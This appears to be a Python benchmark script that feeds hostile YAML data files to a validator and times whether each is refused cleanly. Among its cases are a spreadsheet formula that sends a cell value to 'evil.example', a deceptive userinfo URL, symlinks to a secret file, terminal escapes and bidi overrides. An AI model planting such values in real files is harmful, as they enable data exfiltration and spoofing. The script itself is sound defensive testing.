"""`make check` on hostile data files: each one must be refused (or, for output-only findings,
pass) in well under 2 s, with located messages and nothing raw on the terminal.

    PYTHONPATH=hooks .venv/bin/python bench/hostile.py     (also run by `make bench`)

Each case is the golden cases' base data (tests/cases/_base) with one hostile change, written
into a temporary folder; the check runs as `python -m showcase check <folder>` in a child
process, as `make check` runs it. Prints a Markdown table: case, wall seconds, exit code, number
of output lines, whether the output holds a raw control character.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
BASE = ROOT / "tests" / "cases" / "_base"
UNITS = (BASE / "units.yaml").read_text(encoding="utf-8")
TIMEOUT = int(os.environ.get("HOSTILE_TIMEOUT", "120"))


def _units(text: str) -> Callable[[Path], None]:
    return lambda folder: (folder / "units.yaml").write_text(text, encoding="utf-8")


def _replace(old: str, new: str) -> Callable[[Path], None]:
    assert old in UNITS, old
    return _units(UNITS.replace(old, new, 1))


def _symlinked_data_file(folder: Path) -> None:
    secret = folder.parent / "secret.txt"
    secret.write_text("SECRET-TOKEN-1234\n", encoding="utf-8")
    (folder / "activities.yaml").unlink()
    os.symlink(secret, folder / "activities.yaml")


def _symlinked_source(folder: Path) -> None:
    secret = folder.parent / "secret.txt"
    secret.write_text("SECRET\n" * 10, encoding="utf-8")
    (folder / "sources" / "report-test.txt").unlink()
    os.symlink(secret, folder / "sources" / "report-test.txt")


def _deep_duplicate(folder: Path) -> None:
    (folder / "units.yaml").write_text(UNITS + "units: " + "[" * 200_000 + "]" * 200_000 + "\n", encoding="utf-8")


def _deep_complex_key(folder: Path) -> None:
    (folder / "units.yaml").write_text(UNITS + "? " + "[" * 100_000 + "]" * 100_000 + "\n: 1\n", encoding="utf-8")


def _flood(folder: Path) -> None:
    head = UNITS[: UNITS.index("units:\n")]
    (folder / "units.yaml").write_text(head + "units:\n" + "  - {id: a, name: b}\n" * 100_000, encoding="utf-8")


def _big_source(folder: Path) -> None:
    """A 9 MB source (under the 10 MB limit) and 1,000 quotes, most of them not in it."""
    line = "海淀区文明委组织成员单位开展志愿服务活动，推动文明实践走深走实。\n"
    (folder / "sources" / "report-test.txt").write_text(line * (9_000_000 // len(line.encode())), encoding="utf-8")
    units = "\n".join(
        f"  - {{id: u{i}, basis: stated, name: 单位{i}, category: university, membership: stated,"
        f" source: {{doc: report-test, quote: 找不到的摘句{i}}}}}" for i in range(1000))
    text = UNITS.replace("units:\n", "units:\n" + units + "\n", 1)
    text = text.replace("declared_count: 3}", "declared_count: 2000}").replace("total: 5}", "total: 5000}")
    (folder / "units.yaml").write_text(text, encoding="utf-8")


def _gbk_source(folder: Path) -> None:
    text = (folder / "sources" / "report-test.txt").read_text(encoding="utf-8")
    (folder / "sources" / "report-test.txt").write_bytes(text.encode("gb18030"))


CASES: dict[str, Callable[[Path], None]] = {
    "1 data file is a symlink": _symlinked_data_file,
    "1 source text is a symlink": _symlinked_source,
    "2 CSV formula in a name (passes: neutralised in the CSV)":
        _replace("name: 甲大学", "name: '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")'"),
    "3 200k levels in a duplicate key's value": _deep_duplicate,
    "3 100k levels in a complex key": _deep_complex_key,
    "4 integer of 5,000 digits": _replace("total: 5}", "total: " + "9" * 5000 + "}"),
    "5 noncharacters in a name": _replace("name: 甲大学", 'name: "甲\\uFFFE大学\\uFFFF"'),
    "6 invisible mark in a duplicate name": _replace("name: 乙办公室", 'name: "甲大学\\u034F"'),
    "6 variation selector in a duplicate name": _replace("name: 乙办公室", 'name: "甲\\uFE00大学"'),
    "6 bidi override in a name": _replace("name: 乙办公室", 'name: "乙\\u202E办公室"'),
    "7 URL with userinfo and a control character":
        _replace("name: 乙办公室", 'name: 乙办公室\n    website: "https://good.example@evil.example/\\x01"'),
    "8 terminal escape in a key": _replace("  - id: beta-office", '  - id: beta-office\n    "\\e[31mevil\\0": 1'),
    "9 100,000 records": _flood,
    "10 9 MB source, 1,000 missing quotes": _big_source,
    "10 source text in GBK": _gbk_source,
}


def run_case(name: str, make: Callable[[Path], None]) -> tuple[float, int, int, bool]:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "data"
        shutil.copytree(BASE, folder)
        make(folder)
        env = {**os.environ, "PYTHONPATH": str(ROOT / "hooks")}
        start = time.perf_counter()
        try:
            result = subprocess.run([sys.executable, "-m", "showcase", "check", str(folder)], capture_output=True,
                                    env=env, timeout=TIMEOUT)
        except subprocess.TimeoutExpired:
            return float(TIMEOUT), -1, 0, False
        seconds = time.perf_counter() - start
        output = result.stdout.decode("utf-8", "replace") + result.stderr.decode("utf-8", "replace")
        raw = any(ord(c) < 32 and c not in "\n" or 0x7F <= ord(c) < 0xA0 for c in output)
        if "SECRET" in output or "Traceback" in output:
            raw = True
        return seconds, result.returncode, output.count("\n"), raw


def main() -> int:
    print("| hostile file | `make check` (s) | exit | lines printed | raw control / secret / traceback |")
    print("|---|---|---|---|---|")
    worst = 0.0
    for name, make in CASES.items():
        seconds, code, lines, raw = run_case(name, make)
        worst = max(worst, seconds)
        print(f"| {name} | {seconds:.2f} | {code} | {lines} | {'YES' if raw else 'no'} |")
    return 0 if worst < 2 else 1


if __name__ == "__main__":
    sys.exit(main())
